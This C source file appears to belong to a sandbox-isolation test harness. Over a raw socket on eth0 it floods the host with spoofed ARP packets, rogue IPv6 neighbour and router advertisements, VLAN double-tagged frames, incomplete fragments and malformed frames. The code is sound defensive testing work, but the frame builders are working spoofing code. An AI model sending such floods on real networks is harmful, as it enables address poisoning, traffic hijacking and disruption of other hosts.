/* cable.c - frames that no normal machine sends, on the box's eth0
 *
 * A box with its own kernel has a cable to the host. These floods tell the other end false
 * things: who has which address, who is a router, which fragments belong together. The effect is
 * observed outside. */
#include "attack/attacker.h"
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { FRAME_MAX = 1514, COUNT_MAX = 20000 };

static const uint8_t prefix[8] = { 0xfd, 0x62, 0x6f, 0x78, 0x79, 0x61, 0x72, 0x64 };

static uint32_t dice(void)
{
	static uint32_t state = 0x2545f491;

	state ^= state << 13;
	state ^= state >> 17;
	state ^= state << 5;
	return state;
}

static void put_random(uint8_t *at, size_t len)
{
	uint32_t number = dice();

	memcpy(at, &number, len);
}

static size_t begin(uint8_t *frame, uint16_t type)
{
	static const uint8_t macs[12] = { 0x52, 0x54, 0, 0, 0, 1, 0x52, 0x54, 0, 0, 0, 2 };

	memset(frame, 0, FRAME_MAX);
	memcpy(frame, macs, sizeof macs);
	frame[12] = (uint8_t)(type >> 8);
	frame[13] = (uint8_t)type;
	return ETH_HLEN;
}

/* Writes an IPv4 header from the box itself, for len bytes of content. */
static size_t put_v4(uint8_t *at, uint8_t protocol, const char *to, size_t len)
{
	static const uint8_t own[4] = { 198, 18, 0, 2 };
	uint16_t sum;

	at[0] = 0x45;
	at[2] = (uint8_t)((20 + len) >> 8);
	at[3] = (uint8_t)(20 + len);
	put_random(at + 4, 2);
	at[8] = 64;
	at[9] = protocol;
	memcpy(at + 12, own, 4);
	inet_pton(AF_INET, to, at + 16);
	sum = packet_checksum(at, 20, 0);
	at[10] = (uint8_t)(sum >> 8);
	at[11] = (uint8_t)sum;
	return 20 + len;
}

/* Writes the headers of an ICMPv6 packet to the host's end of the cable; its body is at + 40
 * already. */
static size_t put_icmp6(uint8_t *at, const uint8_t from[16], size_t len)
{
	uint32_t pseudo = IPPROTO_ICMPV6 + (uint32_t)len;
	uint16_t sum;

	at[0] = 0x60;
	at[5] = (uint8_t)len;
	at[6] = IPPROTO_ICMPV6;
	at[7] = 255;
	memcpy(at + 8, from, 16);
	memcpy(at + 24, prefix, sizeof prefix);
	at[39] = 1;
	for (size_t i = 8; i < 40; i += 2)
		pseudo += (uint32_t)(at[i] << 8 | at[i + 1]);
	sum = packet_checksum(at + 40, len, pseudo);
	at[42] = (uint8_t)(sum >> 8);
	at[43] = (uint8_t)sum;
	return 40 + len;
}

/* ---- the frames ----------------------------------------------------------------------------- */

/* Who has 198.18.0.1? An ARP query, or an unasked answer, from a sender that does not exist. */
static size_t make_arp(uint8_t *frame)
{
	static const uint8_t head[] = { 0, 1, 8, 0, 6, 4, 0, 1, 0x52, 0x54, 0, 0, 0, 9, 198, 18 };
	size_t at = begin(frame, ETHERTYPE_ARP);

	memcpy(frame + at, head, sizeof head);
	frame[at + 7] = (uint8_t)(1 + dice() % 2);
	put_random(frame + at + 16, 2);
	inet_pton(AF_INET, "198.18.0.1", frame + at + 24);
	return at + 28;
}

static size_t make_neighbour(uint8_t *frame)
{
	size_t at = begin(frame, ETHERTYPE_IPV6);
	uint8_t from[16] = { 0 }, *body = frame + at + 40;

	memcpy(from, prefix, sizeof prefix);
	put_random(from + 12, 4);
	body[0] = 135;
	memcpy(body + 8, prefix, sizeof prefix);
	body[23] = body[24] = body[25] = 1;
	put_random(body + 28, 4);
	return at + put_icmp6(frame + at, from, 32);
}

static size_t make_router(uint8_t *frame)
{
	static const uint8_t option[] = { 3, 4, 64, 0xc0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
		0xff };
	size_t at = begin(frame, ETHERTYPE_IPV6);
	uint8_t from[16] = { 0xfe, 0x80 }, *body = frame + at + 40;

	from[15] = 9;
	if (dice() % 2) { /* the box itself */
		memcpy(from, prefix, sizeof prefix);
		from[15] = 2;
	}
	body[0] = 134;
	body[4] = 64;
	body[6] = body[7] = 0xff;
	memcpy(body + 16, option, sizeof option);
	body[32] = 0x20;
	put_random(body + 34, 4);
	return at + put_icmp6(frame + at, from, 48);
}

/* One or two VLAN tags, and behind them a datagram with "evil" in it. */
static size_t make_vlan(uint8_t *frame)
{
	size_t at = begin(frame, ETHERTYPE_VLAN);

	if (dice() % 2) {
		put_random(frame + at, 2);
		frame[at + 2] = 0x81;
		at += 4;
	}
	put_random(frame + at, 2);
	frame[at + 2] = 8;
	at += 4;
	memcpy(frame + at + 28, "evil", 4);
	frame[at + 23] = 80;
	frame[at + 25] = 12;
	return at + put_v4(frame + at, IPPROTO_UDP, "203.0.113.161", 12);
}

/* The first of two fragments; the second never comes. */
static size_t make_fragment(uint8_t *frame)
{
	size_t at = begin(frame, ETHERTYPE_IP),
	       len = put_v4(frame + at, IPPROTO_UDP, "203.0.113.162", 1400);
	uint16_t sum;

	frame[at + 6] = 0x20;
	frame[at + 10] = frame[at + 11] = 0;
	sum = packet_checksum(frame + at, 20, 0);
	frame[at + 10] = (uint8_t)(sum >> 8);
	frame[at + 11] = (uint8_t)sum;
	memcpy(frame + at + 28, "evil", 4);
	return at + len;
}

/* Half of it is random bytes. */
static size_t make_broken(uint8_t *frame)
{
	size_t at = begin(frame, dice() % 2 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
	size_t len = put_v4(frame + at, (uint8_t)dice(), "203.0.113.163", 64);

	for (int i = 0; i < 8; i++)
		frame[12 + dice() % (at + len - 12)] = (uint8_t)dice();
	return at + len;
}

static size_t make_other(uint8_t *frame)
{
	size_t at = begin(frame, (uint16_t)dice());

	memcpy(frame + at, "evil", 4);
	return at + 60;
}

static const struct {
	const char *name;
	size_t (*make)(uint8_t *frame);
} kinds[] = { { "arp", make_arp }, { "neighbours", make_neighbour }, { "routers", make_router },
	{ "vlan", make_vlan }, { "fragments", make_fragment }, { "broken", make_broken },
	{ "protocols", make_other } };

void attack_cable(int argc, char **argv, struct outcome *out)
{
	struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_halen = 6 };
	uint8_t frame[FRAME_MAX];
	int64_t since = now_us();
	long count = strtol(argv[1], NULL, 10), sent = 0;
	size_t kind = 0;
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	(void)argc;
	link.sll_ifindex = (int)if_nametoindex("eth0");
	while (kind < sizeof kinds / sizeof *kinds && strcmp(kinds[kind].name, argv[0]))
		kind++;
	if (fd < 0 || kind == sizeof kinds / sizeof *kinds) {
		outcome_errno(out, since, fd < 0 ? errno : EINVAL);
		return;
	}
	for (long i = 0; i < count && i < COUNT_MAX; i++) {
		size_t len = kinds[kind].make(frame);

		sent += sendto(fd, frame, len, 0, (struct sockaddr *)&link, sizeof link) > 0;
	}
	close(fd);
	outcome_refused(out, since, "%ld frames sent, nothing came back", sent);
	out->silent = true;
}
